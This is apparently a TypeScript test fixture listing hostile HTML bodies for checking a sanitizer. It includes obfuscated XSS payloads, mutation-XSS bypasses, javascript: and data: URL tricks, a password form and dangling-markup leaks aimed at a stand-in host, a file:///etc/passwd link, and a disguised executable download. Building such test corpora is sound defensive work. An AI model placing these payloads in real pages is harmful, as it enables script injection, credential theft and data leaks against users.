/** Bodies that try to run something, or to lead the reader away. */
import { type Body, body, EVIL, RUN } from './body.js'

const svg = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`

export const ACTIVE: ReadonlyArray<Body> = [
  body('script', 'A script in the body.', `<p>Hello</p><script>${RUN}</script>`, { seen: ['Hello'] }),
  body('script-src', 'A script from elsewhere.', `<script src="${EVIL}/x.js"></script>`),
  body(
    'script-module',
    'A module, and one that is preloaded.',
    `<script type="module">${RUN}</script><link rel="modulepreload" href="${EVIL}/m.js">`,
  ),
  body('script-case', 'Odd case and spaces in the tag.', `<ScRiPt\n\t>${RUN}</sCrIpT\n>`),
  body('script-unclosed', 'A script that is never closed.', `Hi<script>${RUN}`),
  body(
    'script-split',
    'A script that appears when another is cut out of it.',
    `<scr<script></script>ipt>${RUN}</scr</script>ipt>`,
  ),
  body('script-slash', 'A slash for a space.', `<script/x>${RUN}</script/x>`),
  body(
    'event-load',
    'Handlers that need no one.',
    `<body onload="${RUN}" onpageshow="${RUN}"><img src="${EVIL}/x" onerror="${RUN}" onload="${RUN}">`,
  ),
  body(
    'event-focus',
    'A handler that focuses itself.',
    `<div tabindex=0 autofocus contenteditable onfocus="${RUN}">x</div><input autofocus onfocus="${RUN}">`,
  ),
  body(
    'event-slash',
    'Attributes without spaces between.',
    `<img/src="x"/onerror="${RUN}"><img src='x'onerror="${RUN}">`,
  ),
  body(
    'event-animation',
    'A handler started by an animation of the style sheet.',
    `<style>@keyframes a{from{left:0}}p{animation:a 1s}</style><p onanimationstart="${RUN}" onanimationend="${RUN}">x</p>`,
  ),
  body(
    'event-toggle',
    'Handlers of details, marquee and video.',
    `<details open ontoggle="${RUN}">d</details><marquee onstart="${RUN}">m</marquee><video oncanplay="${RUN}" src="${EVIL}/v"></video>`,
  ),
  body('javascript-link', 'A link that is a script.', `<a href="javascript:${RUN}">click</a>`, { seen: ['click'] }),
  body(
    'javascript-tab',
    'Control characters within the scheme.',
    `<a href="java\tscript:${RUN}">a</a><a href="java&#10;script:${RUN}">b</a><a href="\u0001javascript:${RUN}">c</a><a href=" javascript&colon;${RUN}">d</a>`,
  ),
  body(
    'javascript-entities',
    'The scheme in entities.',
    `<a href="&#x6A;&#97;vascript&#58;${RUN}">a</a><a href="&#0000106avascript:${RUN}">b</a>`,
  ),
  body(
    'javascript-area',
    'A script under a map.',
    `<img usemap="#m" src="${EVIL}/x"><map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:${RUN}"></map>`,
  ),
  body('data-link', 'A page within a link.', `<a href="data:text/html,<script>${RUN}</script>">x</a>`),
  body(
    'vbscript-link',
    'Other schemes that run or open something.',
    '<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">y</a><a href="search-ms:query=x">z</a>',
  ),
  body(
    'target-top',
    'A link to the whole window, which pings.',
    `<a href="${EVIL}/away" target="_top" ping="${EVIL}/ping" rel="opener">go</a>`,
    { seen: ['go'] },
  ),
  body('download', 'A link that saves something.', `<a href="${EVIL}/x.exe" download="invoice.pdf">save</a>`),
  body(
    'meta-refresh',
    'Goes elsewhere by itself.',
    `<meta http-equiv="refresh" content="0;url=${EVIL}/away"><meta http-equiv="Refresh" content="0;javascript:${RUN}">`,
  ),
  body(
    'meta-csp',
    'Loosens or reports the policy.',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${EVIL}/r"><meta http-equiv="set-cookie" content="a=b">`,
  ),
  body(
    'meta-charset',
    'UTF-7, in which the script has no angle brackets.',
    '<meta http-equiv="content-type" content="text/html; charset=utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ),
  body(
    'base',
    'Changes where everything leads.',
    `<base href="${EVIL}/" target="_top"><a href="x">x</a><img src="y.png">`,
  ),
  body(
    'form',
    'Asks for a password.',
    `<form action="${EVIL}/post" method="post" target="_top"><input name="p" type="password" value="secret"><button>Sign in</button></form>`,
    { seen: ['Sign in'] },
  ),
  body(
    'formaction',
    'A button that sends another form.',
    `<form id="f"></form><button form="f" formaction="${EVIL}/post">go</button><input type="image" src="${EVIL}/i" formaction="javascript:${RUN}"><input type="submit" formaction="${EVIL}/p">`,
  ),
  body(
    'form-nested',
    'Forms within forms.',
    `<form action="${EVIL}/a"><div></form><form action="${EVIL}/b"><input autofocus></form>`,
  ),
  body(
    'iframe',
    'A page within the page.',
    `<iframe src="${EVIL}/frame"></iframe><iframe src="javascript:${RUN}"></iframe>`,
  ),
  body(
    'iframe-srcdoc',
    'A page written into an attribute.',
    `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  ),
  body(
    'frameset',
    'Frames instead of a body.',
    `<frameset cols="50%,50%"><frame src="${EVIL}/a"><frame src="javascript:${RUN}"><noframes>read me</noframes></frameset>`,
    { hidden: ['read me'] },
  ),
  body(
    'object',
    'Plug-ins.',
    `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"><param name="movie" value="${EVIL}/o.swf">instead</object><embed src="${EVIL}/e.svg"><applet code="x" codebase="${EVIL}"></applet>`,
    { seen: ['instead'] },
  ),
  body(
    'object-data',
    'A page as the data of an object.',
    `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:image/svg+xml,<svg onload=alert(1)>">`,
  ),
  body(
    'portal',
    'New elements that show pages.',
    `<portal src="${EVIL}/p"></portal><fencedframe src="${EVIL}/f"></fencedframe><webview src="${EVIL}/w"></webview>`,
  ),
  body(
    'svg-script',
    'Scripts in SVG.',
    svg(`<script>${RUN}</script><script xlink:href="${EVIL}/x.js"/><g onload="${RUN}"/>`),
  ),
  body(
    'svg-animate',
    'An animation that makes a link a script.',
    svg(
      `<a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">click</text></a><set attributeName="onload" to="${RUN}"/>`,
    ),
    { seen: ['click'] },
  ),
  body(
    'svg-use',
    'SVG that is taken from elsewhere.',
    svg(
      `<use xlink:href="${EVIL}/s.svg#x"/><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/><image href="${EVIL}/i.png"/><foreignObject><iframe src="${EVIL}/f"></iframe></foreignObject>`,
    ),
  ),
  body(
    'svg-data-image',
    'An SVG as a picture.',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html;base64,PHNjcmlwdD4=">',
  ),
  body(
    'math',
    'MathML with links and actions.',
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction><mtext href="javascript:${RUN}">y</mtext></math>`,
  ),
  body(
    'mxss-noscript',
    'Text with scripts off, a script with scripts on.',
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  ),
  body(
    'mxss-style-svg',
    'A style that ends where HTML begins again.',
    `<svg><style><img src=x onerror="${RUN}"></style></svg><svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  ),
  body(
    'mxss-math',
    'A known mutation of MathML.',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ),
  body(
    'mxss-form',
    'A mutation by nested forms.',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  ),
  body(
    'mxss-textarea',
    'Elements of plain text that end early.',
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><title><img alt="</title><script>${RUN}</script>"></title><xmp><img alt="</xmp><script>${RUN}</script>">`,
  ),
  body(
    'mxss-template',
    'A template within a template.',
    `<template><template><script>${RUN}</script></template><p>inside</p></template>`,
    { hidden: ['inside'] },
  ),
  body(
    'mxss-select',
    'A select that swallows tags.',
    `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=${RUN}>">`,
  ),
  body(
    'mxss-cdata',
    'A CDATA section in foreign content.',
    `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg><![CDATA[<script>${RUN}</script>]]>`,
  ),
  body(
    'comment-end',
    'Comments that end in odd ways.',
    `<!--><script>${RUN}</script>--><!--->x<!----!><script>${RUN}</script>-->`,
  ),
  body(
    'conditional',
    'Comments that Outlook reads.',
    `<!--[if mso]><p>pay to account 7</p><script>${RUN}</script><![endif]--><![if !mso]><p>shown</p><![endif]>`,
    { hidden: ['pay to account 7'], seen: ['shown'] },
  ),
  body(
    'processing',
    'Instructions and declarations.',
    `<?xml version="1.0"?><?php echo 1 ?><!ENTITY x "y"><!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]><p>x</p>`,
  ),
  body('dangling', 'An attribute that never ends, to send what follows.', `<p>Hi</p><img src='${EVIL}/?leak=`),
  body('dangling-base', 'A target that never ends.', `<a href="${EVIL}/x">go</a><base target="`),
  body(
    'null-bytes',
    'Null bytes within names.',
    `<scr\0ipt>${RUN}</scr\0ipt><img src=x o\0nerror="${RUN}"><a href="java\0script:${RUN}">x</a>`,
  ),
  body(
    'overlong',
    'What was overlong UTF-8.',
    '\u00c0\u00bcscript\u00c0\u00bealert(1)\u00c0\u00bc/script\u00c0\u00be<p>\ufffdscript\ufffd</p>',
  ),
  body('full-width', 'Brackets that look like brackets.', '＜script＞alert(1)＜/script＞‹script›alert(1)‹/script›'),
  body(
    'clobber',
    'Names that take the place of what a page relies on.',
    '<img name="body"><form id="documentElement"><input name="attributes"><input name="childNodes"></form><a id="location" name="top" href="x">x</a><img id="defaultView">',
  ),
  body(
    'class-spoof',
    'Classes of the desk itself.',
    '<p class="desk-note s0"><span class="desk-label">approved</span></p><style>.desk-hidden{color:#fff3c4}.desk-label,.s0{font-size:0}</style>',
    { hidden: ['approved'] },
  ),
  body(
    'attribute-break',
    'Quotes and brackets in values that are kept.',
    `<img alt='"><script>${RUN}</script>' src="${EVIL}/x"><a href='${EVIL}/"><script>${RUN}</script>'>x</a><td colspan='2"><script>${RUN}</script>'>`,
  ),
  body(
    'is',
    'Custom elements and slots.',
    `<x-y is="z" onclick="${RUN}"><slot name="a">s</slot></x-y><button is="evil-button">b</button><div><template shadowrootmode="open"><script>${RUN}</script>shadow</template></div>`,
    { hidden: ['shadow'] },
  ),
  body(
    'popover',
    'Elements above all others.',
    `<div popover="manual" id="p">pop</div><dialog open style="position:fixed;inset:0">dialog</dialog><button popovertarget="p" autofocus>x</button>`,
  ),
]
